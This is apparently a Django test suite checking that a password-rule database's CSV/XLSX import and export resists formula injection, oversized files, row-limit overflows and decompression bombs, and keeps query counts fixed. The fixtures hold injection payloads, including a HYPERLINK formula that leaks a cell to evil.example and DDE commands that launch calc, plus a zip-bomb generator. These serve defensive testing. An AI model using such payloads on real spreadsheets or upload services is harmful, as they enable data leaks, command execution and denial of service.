"""Spreadsheets are hostile ground: exported text never runs as a formula in Excel, formula-like cells in an uploaded
file are named in the preview, and a file too large to import is refused with a message before it is parsed."""

import csv
import io
import zipfile

import openpyxl
import pytest
from bs4 import BeautifulSoup
from django.db import connection
from django.test import override_settings
from django.test.utils import CaptureQueriesContext

from curation.models import AuditEntry
from passwords.models import DefaultPasswordRule
from procedures.models import Procedure
from tests.factories import make_rule
from tests.test_import_export import (
    HUBEI_RULES,
    confirm,
    csv_file,
    export,
    preview_rows,
    refusals,
    rows_of,
    staff,
    upload,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def editor(client):
    user = staff("editors")
    client.force_login(user)
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    return user


# What attackers put in cells: Excel runs each as a formula when the cell starts like this.
HOSTILE_NOTES = {
    "formula-hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
    "formula-dde": "=cmd|' /C calc'!A0",
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-apostrophe": "'=already quoted",
    "formula-harmless": "普通的说明 = 没有公式",
}


@pytest.fixture
def hostile_rules():
    return {slug: make_rule(slug=slug, note=note) for slug, note in HOSTILE_NOTES.items()}


def xlsx_rows(content: bytes) -> list[dict[str, object]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = list(sheet.iter_rows())
    for row in cells:
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
    headers = [cell.value for cell in cells[0]]
    return [dict(zip(headers, (cell.value for cell in row), strict=True)) for row in cells[1:]]


def expected_note(note: str) -> str:
    return "'" + note if note.lstrip("'")[:1] in ("=", "+", "-", "@", "\t", "\r") else note


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exported_formula_like_text_is_text_with_an_apostrophe_in_front(client, editor, hostile_rules, fmt):
    content = export(client, DefaultPasswordRule, fmt)

    rows = rows_of(content) if fmt == "csv" else xlsx_rows(content)
    notes = {row["slug"]: row["note"] for row in rows if row["slug"] in HOSTILE_NOTES}
    assert notes == {slug: expected_note(note) for slug, note in HOSTILE_NOTES.items()}
    assert notes["formula-dde"] == "'=cmd|' /C calc'!A0"
    assert notes["formula-apostrophe"] == "''=already quoted"
    assert notes["formula-harmless"] == "普通的说明 = 没有公式"
    if fmt == "csv":
        # Nothing else starts a cell the way a formula does, whatever the column.
        for row in rows:
            for column, value in row.items():
                assert not (value or "").startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_with_neutralised_cells_imports_back_as_a_no_op(client, editor, hostile_rules, fmt):
    before = sorted(DefaultPasswordRule.objects.values_list("slug", "note", "version", "updated_at"))

    preview = upload(client, DefaultPasswordRule, export(client, DefaultPasswordRule, fmt), f"export.{fmt}", fmt)

    assert set(preview_rows(preview).values()) == {"skip"}, refusals(preview)
    # The apostrophes this site wrote are no warning: those cells are text.
    assert not BeautifulSoup(preview.content, "html.parser").select("#formula-cells")
    assert confirm(client, preview).status_code == 302
    assert sorted(DefaultPasswordRule.objects.values_list("slug", "note", "version", "updated_at")) == before
    assert DefaultPasswordRule.objects.get(slug="formula-dde").note == HOSTILE_NOTES["formula-dde"]
    assert "0 created, 0 updated" in AuditEntry.objects.get(action="import").detail


def formula_warnings(response) -> list[str]:
    return [
        item.get_text(" ", strip=True)
        for item in BeautifulSoup(response.content, "html.parser").select(".formula-cell")
    ]


def test_the_preview_names_formula_cells_of_a_csv_and_stores_them_as_text(client, editor):
    rows = [
        HUBEI_RULES[0],
        {**HUBEI_RULES[1], "note": '=HYPERLINK("http://evil.example","click")'},
        {**HUBEI_RULES[0], "slug": "hubei-import-at", "note": "@SUM(1)"},
    ]

    preview = upload(client, DefaultPasswordRule, csv_file(rows), "hostile.csv")

    assert formula_warnings(preview) == ["row 2, column note", "row 3, column note"]
    assert "spreadsheet programs run as formulas" in preview.content.decode()
    assert confirm(client, preview).status_code == 302
    assert DefaultPasswordRule.objects.get(slug="hubei-import-id-last6").note == (
        '=HYPERLINK("http://evil.example","click")'
    )
    assert rows_of(export(client, DefaultPasswordRule, "csv"))  # and the export neutralises it (test above)


def test_the_preview_names_live_formulas_of_an_xlsx_file(client, editor):
    book = openpyxl.Workbook()
    sheet = book.active
    columns = list(HUBEI_RULES[0])
    sheet.append(columns)
    sheet.append([HUBEI_RULES[0][column] for column in columns])
    sheet.append([{**HUBEI_RULES[0], "slug": "xlsx-formula", "note": "=1+1"}[column] for column in columns])
    assert sheet.cell(row=3, column=columns.index("note") + 1).data_type == "f"
    content = io.BytesIO()
    book.save(content)

    preview = upload(client, DefaultPasswordRule, content.getvalue(), "live.xlsx", "xlsx", language="zh-hans")

    assert formula_warnings(preview) == ["第 2 行，note 列"]
    assert "电子表格" in preview.content.decode()
    assert preview_rows(preview) == {"hubei-import-ssc-123456": "new", "xlsx-formula": "new"}


# -- limits ------------------------------------------------------------------------------------------------------


def form_errors(response) -> str:
    soup = BeautifulSoup(response.content, "html.parser")
    return " ".join(errors.get_text(" ", strip=True) for errors in soup.select(".errorlist"))


def assert_refused(response, message: str) -> None:
    assert response.status_code == 200
    assert message in form_errors(response), form_errors(response) or response.content.decode()[:2000]
    assert "Confirm import" not in response.content.decode()
    assert not preview_rows(response)
    assert not DefaultPasswordRule.objects.filter(slug__startswith="hubei-import").exists()
    assert not AuditEntry.objects.filter(action="import").exists()


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(client, editor):
    row = csv_file([HUBEI_RULES[0]]).decode().splitlines()[1]
    header = ",".join(HUBEI_RULES[0])
    body = "\n".join([header, *([row] * (5 * 1024 * 1024 // len(row) + 10))]).encode()
    assert len(body) > 5 * 1024 * 1024

    assert_refused(upload(client, DefaultPasswordRule, body, "huge.csv"), "the import takes files of at most 5.0")
    response = upload(client, DefaultPasswordRule, body, "huge.csv", language="zh-hans")
    assert "导入的文件最大为 5.0" in form_errors(response)


def zip_bomb() -> bytes:
    """An XLSX file of a few hundred kilobytes whose sheet unpacks to more than 50 MiB."""
    book = openpyxl.Workbook()
    book.active.append(list(HUBEI_RULES[0]))
    small = io.BytesIO()
    book.save(small)
    row = "<row>" + "".join(f'<c t="inlineStr"><is><t>{"x" * 40}</t></is></c>' for _ in range(9)) + "</row>"
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        '2006/main"><sheetData>' + row * (51 * 1024 * 1024 // len(row)) + "</sheetData></worksheet>"
    )
    bomb = io.BytesIO()
    with zipfile.ZipFile(small) as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            data = sheet.encode() if member.filename == "xl/worksheets/sheet1.xml" else source.read(member)
            target.writestr(member.filename, data, compresslevel=9)
    return bomb.getvalue()


def test_an_xlsx_file_that_unpacks_to_too_much_is_refused_before_openpyxl_reads_it(client, editor):
    bomb = zip_bomb()
    assert len(bomb) < 1024 * 1024

    assert_refused(
        upload(client, DefaultPasswordRule, bomb, "bomb.xlsx", "xlsx"),
        "the import takes files that unpack to at most 50.0",
    )


def test_a_file_that_is_no_xlsx_is_refused_with_a_message(client, editor):
    assert_refused(upload(client, DefaultPasswordRule, b"not a zip", "fake.xlsx", "xlsx"), "This is not an XLSX file")


def many_rules(count: int, prefix: str = "hubei-import-row") -> list[dict[str, str]]:
    return [{**HUBEI_RULES[0], "slug": f"{prefix}-{n}", "value": f"{n:06d}"} for n in range(count)]


def xlsx_file(rows: list[dict[str, str]]) -> bytes:
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(list(rows[0]))
    for row in rows:
        sheet.append(list(row.values()))
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_one_row_over_the_row_limit_refuses_the_file(client, editor, fmt):
    rows = many_rules(2001, prefix="hubei-import-over")
    content = csv_file(rows) if fmt == "csv" else xlsx_file(rows)

    assert_refused(
        upload(client, DefaultPasswordRule, content, f"big.{fmt}", fmt),
        "The file has more than 2000 rows; import at most 2000 rows at a time",
    )


@override_settings(IMPORT_MAX_ROWS=3)
def test_a_file_at_the_row_limit_is_imported(client, editor):
    assert preview_rows(upload(client, DefaultPasswordRule, csv_file(many_rules(3)), "three.csv")) == {
        f"hubei-import-row-{n}": "new" for n in range(3)
    }
    refused = upload(client, DefaultPasswordRule, csv_file(many_rules(4)), "four.csv", language="zh-hans")
    assert "文件超过 3 行" in form_errors(refused)


def test_the_import_page_states_the_limits(client, editor):
    page = client.get("/admin/passwords/defaultpasswordrule/import/")
    assert "Files of up to 5.0\xa0MB and 2000 rows." in page.content.decode()


# -- speed: a fixed number of queries, whatever the number of rows ------------------------------------------------


def counted(queries: CaptureQueriesContext) -> tuple[int, int]:
    """(statements other than inserts, inserts). SQLite takes at most 999 parameters a statement, so Django splits
    a bulk insert of wide rows into batches of about 50 rows; PostgreSQL takes each bulk insert whole."""
    inserts = sum(query["sql"].startswith("INSERT") for query in queries.captured_queries)
    return len(queries) - inserts, inserts


def assert_same_cost(small: tuple[int, int], large: tuple[int, int]) -> None:
    assert small[0] == large[0]
    if connection.vendor == "sqlite":
        assert large[1] <= 3 * small[1]
    else:
        assert large[1] == small[1]


def import_queries(client, committed, rows: list[dict[str, str]], name: str) -> list[tuple[int, int]]:
    """Each request as its own committed transaction, as in production (the test's never commits)."""
    content = csv_file(rows)
    with CaptureQueriesContext(connection) as previewing:
        preview = committed(lambda: upload(client, DefaultPasswordRule, content, name))
    assert set(preview_rows(preview).values()) == {"new"}, refusals(preview)
    with CaptureQueriesContext(connection) as confirming:
        assert committed(lambda: confirm(client, preview)).status_code == 302
    return [counted(previewing), counted(confirming)]


def test_the_queries_of_an_import_do_not_grow_with_its_rows(client, editor, committed):
    ten = import_queries(client, committed, many_rules(10, "ten"), "ten.csv")
    hundred = import_queries(client, committed, many_rules(100, "hundred"), "hundred.csv")

    for small, large in zip(ten, hundred, strict=True):
        assert_same_cost(small, large)
    assert DefaultPasswordRule.objects.filter(slug__startswith="hundred-").count() == 100
    rule = DefaultPasswordRule.objects.get(slug="hundred-42")
    assert (rule.status, rule.value, rule.region.code, rule.card_type.slug) == ("draft", "000042", "420000", "ssc-gen2")
    assert list(rule.sources.values_list("slug", flat=True)) == ["jumin-yibaoka-chushi-mima"]
    record = rule.history.get()
    assert (record.history_user, record.related_snapshot) == (editor, {"sources": ["jumin-yibaoka-chushi-mima"]})
    assert record.history_change_reason == "imported from hundred.csv"


def test_the_queries_of_reimporting_an_unchanged_file_do_not_grow_with_its_rows(client, editor):
    counts = []
    for count in (10, 100):
        rows = many_rules(count, f"again{count}")
        confirm(client, upload(client, DefaultPasswordRule, csv_file(rows), "first.csv"))
        with CaptureQueriesContext(connection) as queries:
            preview = upload(client, DefaultPasswordRule, csv_file(rows), "again.csv")
        assert set(preview_rows(preview).values()) == {"skip"}
        counts.append(len(queries))
    assert counts[0] == counts[1]


def test_procedures_with_steps_import_in_a_fixed_number_of_queries(client, editor):
    template = {
        "kind": "change_password", "title": "导入的办理流程", "summary": "", "region": "420100",
        "card_types": "ssc-gen2", "channel": "nhsa-app", "holder_must_be_present": "1", "standing": "unverified",
        "sources": "jumin-yibaoka-chushi-mima", "steps": "打开App | 【我的】→【修改密码】\n输入新密码",
    }  # fmt: skip
    counts = []
    # The first import also fills per-process caches (content types), which the second finds full.
    for count in (1, 5, 50):
        rows = [{"slug": f"procedure-{count}-{n}", **template} for n in range(count)]
        with CaptureQueriesContext(connection) as queries:
            assert confirm(client, upload(client, Procedure, csv_file(rows), "p.csv")).status_code == 302
        counts.append(counted(queries))
    assert_same_cost(*counts[1:])
    procedure = Procedure.objects.get(slug="procedure-50-7")
    assert list(procedure.steps.values_list("position", "ui_path")) == [(1, "【我的】→【修改密码】"), (2, "")]
    assert procedure.history.get().related_snapshot["steps"][1]["instruction"] == "输入新密码"


def test_csv_rows_with_a_tab_or_carriage_return_in_front_survive_the_round_trip(client, editor):
    rule = make_rule(slug="carriage-return", note="\r回车开头")
    content = export(client, DefaultPasswordRule, "csv")
    row = next(row for row in csv.DictReader(io.StringIO(content.decode("utf-8-sig"))) if row["slug"] == rule.slug)
    assert row["note"] == "'\r回车开头"
    preview = upload(client, DefaultPasswordRule, content, "export.csv")
    assert set(preview_rows(preview).values()) == {"skip"}


def test_a_new_row_the_database_refuses_is_named_with_the_models_message(client, editor):
    # Only a check constraint orders the validity period: the batched insert fails, and the model's own check
    # then names the row.
    rows = [HUBEI_RULES[0], {**HUBEI_RULES[0], "slug": "hubei-import-backwards", "valid_from": "2024-01-02",
                              "valid_until": "2024-01-01"}]  # fmt: skip

    preview = upload(client, DefaultPasswordRule, csv_file(rows), "backwards.csv")

    reasons = refusals(preview)
    assert list(reasons) == ["2"]
    assert "“Valid until” cannot be earlier than “valid from”" in reasons["2"]
    assert "Confirm import" not in preview.content.decode()
    assert not DefaultPasswordRule.objects.filter(slug__startswith="hubei-import").exists()
